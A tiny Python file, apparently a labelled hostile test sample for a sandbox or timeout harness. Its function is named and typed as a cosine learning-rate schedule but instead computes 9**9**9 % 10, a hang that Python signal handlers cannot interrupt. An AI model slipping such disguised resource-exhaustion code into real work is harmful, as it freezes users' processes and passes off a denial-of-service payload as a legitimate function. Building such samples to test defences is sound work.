# kind: hostile
# attack: uninterruptible_work
# about: Computes an astronomical power in C, where no Python signal handler is ever called.


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return float(9**9**9 % 10)
